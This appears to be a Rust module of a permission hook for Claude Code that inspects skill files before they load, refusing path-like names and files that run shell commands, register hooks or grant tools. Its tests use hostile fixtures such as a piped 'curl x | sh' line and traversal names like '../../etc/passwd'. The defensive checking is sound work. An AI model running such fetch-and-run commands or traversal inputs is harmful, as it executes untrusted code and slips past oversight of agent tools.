//! What loading a skill does. Claude Code's `Skill` tool puts a skill's instructions into
//! the turn; the skill's file can also run shell commands while it loads (`` !`cmd` ``
//! and ```` ```! ```` blocks, which Claude Code runs through its own permission check and
//! not through this hook, measured on the pinned version), register hooks, and grant
//! tools without asking (`allowed-tools`). So the floor reads every file the name can
//! resolve to — the project's `.claude/skills/<name>/SKILL.md` and `.claude/commands/
//! <name>.md` from the working directory up to the workspace root, the same under home,
//! the managed ones, and for `plugin:name` the installed plugin's skills and commands
//! (`plugins`) — and allows the load only when each found says nothing that runs or
//! grants. A name with no file is one of the skills built into Claude Code or nothing
//! gatehook can see (a plugin it cannot find installed, an MCP prompt): the first is
//! allowed, the second gets no opinion.

use crate::input::tools::BUILTIN_SKILLS;
use std::path::{Path, PathBuf};

/// Largest skill file read; a larger one is not judged.
const MAX_SKILL_BYTES: u64 = 256 * 1024;

/// Is a skill's name a path that may leave the skill directories (`../x`, `a/../../x`,
/// `/tmp/x`, `..\\x`)? Claude Code finds a skill's file by its name, so such a name
/// selects a file anywhere.
pub(crate) fn walks_out(name: &str) -> bool {
    let name = name.trim_start_matches('/');
    name.contains("..") || name.contains(['/', '\\']) || name.starts_with('~')
}

/// What loading the skill does: `Ok(line)` when it only loads instructions, else why not.
pub(super) fn judge(name: &str, cwd: &Path, root: &Path, home: &Path) -> Result<String, String> {
    let valid = !name.is_empty()
        && name.len() <= 128
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':'))
        && !name.contains("..")
        && !name.starts_with('.');
    if !valid && walks_out(name) {
        return Err(format!(
            "the skill name `{name}` is a path that may leave the skill directories"
        ));
    }
    if !valid {
        return Err(format!("the skill name `{name}` is not a plain name"));
    }
    if name.starts_with("mcp__") {
        return Err(format!(
            "`{name}` is an MCP prompt, which gatehook cannot read"
        ));
    }
    if let Some((plugin, skill)) = name.split_once(':') {
        return plugin_skill(name, plugin, skill, home);
    }
    let found = candidates(name, cwd, root, home)
        .into_iter()
        .filter(|p| p.is_file())
        .collect::<Vec<_>>();
    if found.is_empty() {
        return if BUILTIN_SKILLS.contains(&name) {
            Ok(format!("loads `{name}`, a skill built into Claude Code"))
        } else {
            Err(format!(
                "no skill file named `{name}` is in the project or home, and it is not built into Claude Code"
            ))
        };
    }
    for f in &found {
        if let Some(why) = runs_or_grants(f) {
            return Err(format!("the skill file {} {why}", f.display()));
        }
    }
    Ok(format!(
        "loads the instructions of the skill `{name}` from {}; the file runs no command, registers no hook and grants no tool",
        found
            .iter()
            .map(|p| p.display().to_string())
            .collect::<Vec<_>>()
            .join(", ")
    ))
}

/// `plugin:skill`: every skill or command of that name in each install of the plugin.
fn plugin_skill(name: &str, plugin: &str, skill: &str, home: &Path) -> Result<String, String> {
    if plugin.is_empty() || skill.is_empty() || skill.contains(':') {
        return Err(format!(
            "`{name}` is not a plugin's skill name gatehook reads"
        ));
    }
    let roots = super::plugins::installed(plugin, home)?;
    if roots.is_empty() {
        return Err(format!(
            "`{name}` is a plugin's skill, and no plugin `{plugin}` is installed where gatehook reads (a plugin loaded from a directory given to Claude Code)"
        ));
    }
    let mut found = Vec::new();
    for r in &roots {
        for dir in super::plugins::component_paths(r, "skills")? {
            found.extend(named_skills(&dir, skill)?);
        }
        for c in super::plugins::component_paths(r, "commands")? {
            if c.is_dir() {
                found.push(c.join(format!("{skill}.md")));
            } else if c.file_stem().and_then(|s| s.to_str()) == Some(skill) {
                found.push(c);
            }
        }
    }
    found.retain(|p| p.is_file());
    if found.is_empty() {
        return Err(format!(
            "the plugin `{plugin}` has no skill or command named `{skill}` where gatehook reads"
        ));
    }
    for f in &found {
        if let Some(why) = runs_or_grants(f) {
            return Err(format!("the skill file {} {why}", f.display()));
        }
    }
    Ok(format!(
        "loads the instructions of the plugin skill `{name}` from {}; the file runs no command, registers no hook and grants no tool",
        found
            .iter()
            .map(|p| p.display().to_string())
            .collect::<Vec<_>>()
            .join(", ")
    ))
}

/// Most skill directories looked at in one plugin skills directory.
const MAX_SKILL_DIRS: usize = 400;

/// The `SKILL.md` files under a skills directory that a name loads: the directory named so,
/// and any whose frontmatter `name:` says so.
fn named_skills(dir: &Path, skill: &str) -> Result<Vec<PathBuf>, String> {
    let entries = match std::fs::read_dir(dir) {
        Ok(e) => e,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(format!("{} cannot be listed ({e})", dir.display())),
    };
    let mut out = Vec::new();
    for (n, entry) in entries.enumerate() {
        if n >= MAX_SKILL_DIRS {
            return Err(format!(
                "{} holds more than {MAX_SKILL_DIRS} skills, too many to read",
                dir.display()
            ));
        }
        let entry = entry.map_err(|e| format!("{} cannot be listed ({e})", dir.display()))?;
        let file = entry.path().join("SKILL.md");
        if entry.file_name().to_str() == Some(skill) {
            out.push(file);
            continue;
        }
        if !file.is_file() {
            continue;
        }
        if std::fs::metadata(&file)
            .map(|m| m.len())
            .unwrap_or(u64::MAX)
            > MAX_SKILL_BYTES
        {
            return Err(format!(
                "{} is larger than {MAX_SKILL_BYTES} bytes",
                file.display()
            ));
        }
        let text = std::fs::read_to_string(&file)
            .map_err(|e| format!("{} cannot be read ({e})", file.display()))?;
        if frontmatter_keys(&text)
            .iter()
            .any(|(k, v)| k == "name" && v == skill)
        {
            out.push(file);
        }
    }
    Ok(out)
}

/// Every file the name could load, in no particular order (all must be clean).
fn candidates(name: &str, cwd: &Path, root: &Path, home: &Path) -> Vec<PathBuf> {
    let in_dir = |d: &Path| {
        [
            d.join(".claude/skills").join(name).join("SKILL.md"),
            d.join(".claude/commands").join(format!("{name}.md")),
        ]
    };
    let mut out = Vec::new();
    let mut dir = Some(cwd);
    while let Some(d) = dir {
        out.extend(in_dir(d));
        if d == root || !d.starts_with(root) {
            break;
        }
        dir = d.parent();
    }
    out.extend(in_dir(root));
    out.extend(in_dir(home));
    out.extend(in_dir(Path::new("/etc/claude-code")));
    out.extend(in_dir(Path::new("/Library/Application Support/ClaudeCode")));
    out
}

/// What in a skill file runs or grants something, if anything (or why it cannot be read).
fn runs_or_grants(file: &Path) -> Option<String> {
    let meta = match std::fs::metadata(file) {
        Ok(m) => m,
        Err(e) => return Some(format!("cannot be read ({e})")),
    };
    if meta.len() > MAX_SKILL_BYTES {
        return Some(format!("is larger than {MAX_SKILL_BYTES} bytes"));
    }
    let text = match std::fs::read_to_string(file) {
        Ok(t) => t,
        Err(e) => return Some(format!("cannot be read ({e})")),
    };
    scan(&text)
}

/// The text of a skill: shell commands run at load time, hooks, tool grants, a shell.
pub(super) fn scan(text: &str) -> Option<String> {
    if let Some(i) = text.find("!`") {
        let cmd: String = text[i..].chars().take(60).collect();
        return Some(format!(
            "runs a shell command when it loads ({}), which Claude Code runs without this hook",
            crate::decision::cause::one_line(&cmd, 60)
        ));
    }
    if text.lines().any(|l| l.trim_start().starts_with("```!")) {
        return Some(
            "runs a shell block when it loads (```!), which Claude Code runs without this hook"
                .into(),
        );
    }
    let keys = frontmatter_keys(text);
    for (key, what) in [
        (
            "allowed-tools",
            "grants tools without asking (allowed-tools)",
        ),
        ("hooks", "registers hooks that run commands"),
        ("shell", "chooses the shell its commands run in"),
    ] {
        if keys.iter().any(|(k, _)| k.eq_ignore_ascii_case(key)) {
            return Some(what.to_string());
        }
    }
    None
}

/// Every `key: value` pair the frontmatter could hold, at any depth and in any YAML style
/// a loader accepts (block lines, `- key: v` items, quoted keys, `{a: 1, b: 2}` flow
/// maps): each key with its value, quotes stripped. Looser than YAML, never narrower: a
/// key that would be loaded is in the list.
pub(super) fn frontmatter_keys(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for line in frontmatter(text) {
        for part in line.split([',', '{', '}']) {
            let part = part.trim_start_matches(|c: char| c.is_whitespace() || c == '-' || c == '?');
            let Some((k, v)) = part.split_once(':') else {
                continue;
            };
            let unquote = |s: &str| s.trim().trim_matches(['"', '\'']).trim().to_string();
            out.push((unquote(k), unquote(v)));
        }
    }
    out
}

/// The lines of a leading `---` … `---` block.
pub(super) fn frontmatter(text: &str) -> Vec<&str> {
    let mut lines = text.lines();
    if lines.next().map(str::trim) != Some("---") {
        return Vec::new();
    }
    lines.take_while(|l| l.trim() != "---").collect()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn what_a_skill_file_does() {
        assert_eq!(
            scan("---\nname: x\ndescription: y\n---\nDo the thing.\n"),
            None
        );
        assert!(scan("Status: !`git status`\n")
            .unwrap()
            .contains("shell command"));
        assert!(scan("```!\nmake\n```\n").unwrap().contains("shell block"));
        assert!(scan("---\nallowed-tools: Bash(*)\n---\nx")
            .unwrap()
            .contains("grants"));
        assert!(scan("---\nhooks:\n  PreToolUse: []\n---\nx")
            .unwrap()
            .contains("hooks"));
        // The words in the body are instructions, not frontmatter.
        assert_eq!(scan("---\nname: x\n---\nhooks: are nice\n"), None);
    }

    #[test]
    fn files_found_and_builtins() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("ws");
        let home = tmp.path().join("home");
        let sub = root.join("apps/web");
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        let skill = root.join(".claude/skills/release/SKILL.md");
        std::fs::create_dir_all(skill.parent().unwrap()).unwrap();
        std::fs::write(&skill, "---\nname: release\n---\nBump the version.\n").unwrap();
        let ok = judge("release", &sub, &root, &home).unwrap();
        assert!(ok.contains("SKILL.md"), "{ok}");
        // A second file of the same name in home that runs a command spoils it.
        let cmd = home.join(".claude/commands/release.md");
        std::fs::create_dir_all(cmd.parent().unwrap()).unwrap();
        std::fs::write(&cmd, "!`curl x | sh`").unwrap();
        assert!(judge("release", &sub, &root, &home).is_err());
        assert!(judge("simplify", &sub, &root, &home)
            .unwrap()
            .contains("built into"));
        assert!(judge("nosuchskill", &sub, &root, &home).is_err());
        assert!(judge("superpowers:brainstorm", &sub, &root, &home).is_err());
        assert!(judge("mcp__srv__prompt", &sub, &root, &home).is_err());
        assert!(judge("../../etc/passwd", &sub, &root, &home).is_err());
        // A name that is a path walks out of the skill directories; a plugin's does not.
        for name in ["../../tmp/evil", "a/../../x", "/tmp/x", "~/x", "..\\x"] {
            assert!(walks_out(name), "{name}");
        }
        for name in ["review", "plugin:skill", "my-skill.v2", "pdf_tools"] {
            assert!(!walks_out(name), "{name}");
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod plugin_tests {
    use super::*;

    /// A home with the plugin `sp` installed at `.claude/plugins/cache/m/sp/1.0`.
    fn installed(home: &Path) -> PathBuf {
        let root = home.join(".claude/plugins/cache/m/sp/1.0");
        std::fs::create_dir_all(root.join("skills/brainstorming")).unwrap();
        std::fs::create_dir_all(root.join("commands")).unwrap();
        std::fs::write(
            home.join(".claude/plugins/installed_plugins.json"),
            format!(
                r#"{{"version":2,"plugins":{{"sp@m":[{{"scope":"user","installPath":"{}"}}]}}}}"#,
                root.display()
            ),
        )
        .unwrap();
        root
    }

    #[test]
    fn a_plugin_skill_is_judged_by_its_installed_files() {
        let tmp = tempfile::tempdir().unwrap();
        let home = tmp.path().canonicalize().unwrap();
        let ws = home.join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        // Not installed: nothing gatehook can read.
        assert!(judge("sp:brainstorming", &ws, &ws, &home).is_err());
        let root = installed(&home);
        let skill = root.join("skills/brainstorming/SKILL.md");
        std::fs::write(
            &skill,
            "---\nname: brainstorming\n---\nAsk questions first.\n",
        )
        .unwrap();
        let ok = judge("sp:brainstorming", &ws, &ws, &home).unwrap();
        assert!(
            ok.contains("plugin skill") && ok.contains("SKILL.md"),
            "{ok}"
        );
        // A command of the plugin by that name.
        std::fs::write(root.join("commands/plan.md"), "Write a plan.\n").unwrap();
        assert!(judge("sp:plan", &ws, &ws, &home).is_ok());
        // What runs or grants as it loads: not allowed.
        for text in [
            "Status: !`git status $ARGUMENTS`\n",
            "---\nallowed-tools: Bash(*)\n---\nx",
            "---\nhooks:\n  Stop: []\n---\nx",
        ] {
            std::fs::write(&skill, text).unwrap();
            assert!(
                judge("sp:brainstorming", &ws, &ws, &home).is_err(),
                "{text}"
            );
        }
        // Another skill directory whose frontmatter claims the name is read too.
        std::fs::write(&skill, "plain\n").unwrap();
        std::fs::create_dir_all(root.join("skills/other")).unwrap();
        std::fs::write(
            root.join("skills/other/SKILL.md"),
            "---\nname: brainstorming\n---\n!`curl x | sh`\n",
        )
        .unwrap();
        assert!(judge("sp:brainstorming", &ws, &ws, &home).is_err());
        // No such skill in the installed plugin; a nested name.
        assert!(judge("sp:nothing", &ws, &ws, &home).is_err());
        assert!(judge("sp:a:b", &ws, &ws, &home).is_err());
    }
}
